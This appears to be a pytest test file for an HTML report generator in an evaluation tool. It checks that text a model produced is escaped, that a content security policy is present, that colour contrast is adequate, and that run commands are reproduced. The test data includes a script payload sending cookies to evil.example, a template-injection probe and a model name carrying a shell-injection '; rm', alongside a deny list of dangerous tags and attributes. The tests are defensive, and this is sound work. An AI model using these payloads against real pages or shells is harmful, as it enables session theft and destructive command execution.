"""report.html shows the run's files, and nothing that a model wrote runs in it."""

import itertools
import json
import re
import shlex
from html.parser import HTMLParser
from pathlib import Path

import polars as pl
import pytest

from flows.commands.cli import parse
from flows.commands.parameter_options import given_parameters
from tasks.errors import ConfigError
from tasks.files import read_json
from tasks.plan.run_config import build_config, config_from_parameters
from tasks.plan.run_directory import reproduce_command
from tasks.records import RunPaths
from tasks.results.page_data import length_bins
from tasks.results.page_timeline import read_timeline
from tasks.results.report_page import publish_page
from tasks.results.run_report import read_report
from tasks.results.scored_rollouts import load_metric_rows
from tasks.storage.run_files import published_files
from tests.support.harvest_command import Tell
from tests.support.report_run import HOSTILE, write_report_run
from tests.support.synthetic import write_run

VOID = {"meta", "link", "img", "br", "hr", "input"}


class Page(HTMLParser):
    """Elements and text of a page; raises when elements do not nest."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self._open: list[str] = []
        self.feed(text)
        self.close()
        assert not self._open

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag not in VOID:
            self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self._open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    @property
    def words(self) -> str:
        return " ".join(" ".join(self.text).split())


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> RunPaths:
    accuracy = {"step_by_step": 0.9, "concise": 0.1, "algebra": 0.5}
    run = write_report_run(
        tmp_path_factory.mktemp("runs") / "run",
        questions_per_shard=15,
        arms=3,
        samples=2,
        min_tokens=4,
        top_k=5,
        accuracy=accuracy,
    )
    publish_page(run.root)
    return run


@pytest.fixture(scope="module")
def page(run: RunPaths) -> Page:
    return Page(run.report_html.read_text(encoding="utf-8"))


def test_hostile_text_is_text(page: Page, run: RunPaths) -> None:
    assert not {"script", "iframe", "object", "embed", "form", "base", "img", "a"} & {tag for tag, _ in page.elements}
    for tag, attributes in page.elements:
        assert not [name for name in attributes if name.startswith("on")]
        assert not {"src", "srcset", "action", "data", "xlink:href"} & attributes.keys()
        assert attributes.get("href", "data:,") == "data:,", tag
    assert "<script>fetch('https://evil.example/'+document.cookie)</script>" in page.words
    assert "{{7*7}}" in page.words
    raw = run.report_html.read_text(encoding="utf-8")
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", raw)
    assert max(map(len, re.findall("A+", raw))) < 2_000 < len(HOSTILE)


def test_the_policy_forbids_scripts_and_requests(page: Page) -> None:
    policies = [attributes["content"] for _, attributes in page.elements if "http-equiv" in attributes]
    assert policies == ["default-src 'none'; style-src 'unsafe-inline'; img-src data:"]


def luminance(colour: str) -> float:
    parts = [int(colour[index : index + 2], 16) / 255 for index in (1, 3, 5)]
    red, green, blue = (part / 12.92 if part <= 0.03928 else ((part + 0.055) / 1.055) ** 2.4 for part in parts)
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


def test_text_has_enough_contrast(run: RunPaths) -> None:
    """WCAG 2.2, 1.4.3: at least 4.5 to 1."""
    raw = run.report_html.read_text(encoding="utf-8")
    on_tone = re.findall(r"\{ color: (#[0-9a-f]{6}); background: (#[0-9a-f]{6}); \}", raw)
    on_white = [(colour, "#ffffff") for colour in re.findall(r"--(?:ink|soft): (#[0-9a-f]{6})", raw)]
    on_white += [(colour, "#ffffff") for colour in {*re.findall(r'<text [^>]*fill="(#[0-9a-f]{6})"', raw)}]

    assert len(on_tone) == 4
    assert len(on_white) >= 4
    for pair in on_tone + on_white:
        dark, light = sorted(map(luminance, pair))
        assert (light + 0.05) / (dark + 0.05) >= 4.5, pair


def test_it_shows_every_part(page: Page, run: RunPaths) -> None:
    report = read_report(run.root)
    assert report is not None
    headings = [tag for tag, _ in page.elements if re.fullmatch("h[1-6]", tag)]
    assert headings[0] == "h1"
    assert headings.count("h1") == 1
    assert all(int(after[1]) - int(before[1]) <= 1 for before, after in itertools.pairwise(headings))
    for words in (
        "Health needs a look",
        "Equivalence different",
        f"{report.mean_reward:.3f}",
        "step_by_step is better than concise by",
        "cut off by max_tokens",
        "suspect ground truths 2 mean reward without them: 0.457",
        "GPU utilization",
        "engines per GPU 2 MPS on: a daemon of the run's own",
        "out of device memory: rung 0 to 1",
        "replica 0 was started again",
        "the run was resumed",
        "Speed-up",
        "Cost",
        "Worst divergences from the baseline",
        "Logprobs recomputed as a trainer does",
        "Temperature: of 2 from 0.7 to 1, 1 fits best",
        "harvest run --profile h100x8 --model 'evil'\"'\"'; rm' --dataset openai/gsm8k",
        read_json(run.config)["fingerprint"],
    ):
        assert words in page.words, words
    pictures = [attributes for tag, attributes in page.elements if tag == "svg"]
    assert len(pictures) == 3
    assert all(picture["role"] == "img" and picture["aria-label"] for picture in pictures)
    kinds = [a["class"] for tag, a in page.elements if tag == "span" and (a.get("class") or "").startswith("tag")]
    assert {"tag good", "tag bad", "tag careful"} == {*kinds}


def test_a_run_without_anything_else(tmp_path: Path) -> None:
    run = write_run(tmp_path / "plain", arms=2)
    publish_page(run.root)

    words = Page(run.report_html.read_text(encoding="utf-8")).words
    assert "not compared" in words
    assert "Throughput" not in words
    assert "Logprobs recomputed" not in words
    assert "report.html" in published_files(run.root)


def test_the_same_files_make_the_same_page(run: RunPaths) -> None:
    before = run.report_html.read_bytes()
    assert publish_page(run.root).read_bytes() == before


def test_an_unscored_run_has_no_report(tmp_path: Path) -> None:
    run = write_run(tmp_path / "unscored", with_scores=False)
    with pytest.raises(ConfigError, match="is not scored"):
        publish_page(run.root)


def test_every_completion_is_in_one_bin(run: RunPaths) -> None:
    rows = load_metric_rows(run).filter(pl.col("error").is_null())
    bins = length_bins(load_metric_rows(run), bins=7)

    assert (sum(bins.ended) + sum(bins.truncated), len(bins.ended)) == (rows.height, len(bins.edges) - 1)
    for index, (low, high) in enumerate(itertools.pairwise(bins.edges)):
        inside = rows.filter(pl.col("num_completion_tokens").is_between(low, high, closed="left"))
        assert bins.ended[index] + bins.truncated[index] == inside.height


def test_the_timeline_leaves_out_the_time_between_sessions(run: RunPaths) -> None:
    report = read_report(run.root)
    assert report is not None
    timeline = read_timeline(run.telemetry, report.oom_ladder)

    assert timeline is not None
    assert timeline.seconds == 2 * 239
    assert [(mark.kind, mark.seconds) for mark in timeline.marks] == [
        ("oom", 120),
        ("restart", 150),
        ("session", 239),
        ("restart", 389),
    ]
    tokens = next(panel for panel in timeline.panels if panel.name == "tokens/s")
    assert max(value for _, value in tokens.points if value is not None) == pytest.approx(900)


@pytest.mark.parametrize(
    "parameters",
    [
        {},
        {"profile": "h100-sxm", "model": "org/it's a model", "dataset": "-odd name.jsonl", "questions": 7},
        {"temperature": 0.0, "top_p": 0.95, "samples_per_arm": 1, "seed": 3, "top_logprobs": 5, "name": "mine"},
        {"lengths": "lognormal:64:0.8", "max_tokens": 300, "shard_size": 9, "scorer": "math", "arms": "math8"},
        {"dataset": "openai/gsm8k", "dataset_config": "socratic", "split": "train", "id_column": "key"},
        {"filters": ["level=5", "-x~^a b"], "shuffle_seed": 0, "streaming": True, "stop": ["\n\n", "Question:"]},
        {"prompt_format": "plain", "prompt_template": "Q: {question}\nA:"},
        {"chat_template_kwargs": {"enable_thinking": False, "tools": [{"name": "it's"}]}},
    ],
)
def test_the_command_makes_the_same_configuration(parameters: dict[str, object]) -> None:
    config = config_from_parameters(parameters)
    command = reproduce_command(config.model_dump(mode="json"))

    options = parse(shlex.split(command)[1:]).params
    assert config_from_parameters(given_parameters(options)) == config
    assert parameters or command == "harvest run --profile cpu-demo"
    assert build_config(json.loads(config.model_dump_json())) == config


def test_command(run: RunPaths, tell: Tell) -> None:
    made = tell("report", run.root, "--json")
    assert made.report == {"report": str(run.report_html), "bytes": run.report_html.stat().st_size}, made.stderr
    assert (run.root / "README.md").is_file()
    assert tell("report", "nowhere").code == 2
